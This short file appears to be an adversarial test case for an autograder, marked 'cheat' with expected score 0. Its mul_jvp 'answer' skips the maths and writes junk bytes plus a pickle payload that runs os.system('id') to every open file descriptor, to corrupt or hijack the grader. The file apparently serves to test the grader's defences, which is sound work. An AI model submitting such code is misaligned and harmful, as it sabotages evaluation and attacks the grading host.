# /// case
# title = "Garbage written to every open file and socket"
# kind = "cheat"
# score = 0
# ///

# %% answer mul_jvp
import os

def mul_jvp(x1, dx1, x2, dx2):
    for fd in range(3, 200):
        try:
            os.write(fd, b"\xff" * 4096 + b"\x80\x04cos\nsystem\n(S'id'\ntR.")
        except OSError:
            pass
    return 0.0, 0.0
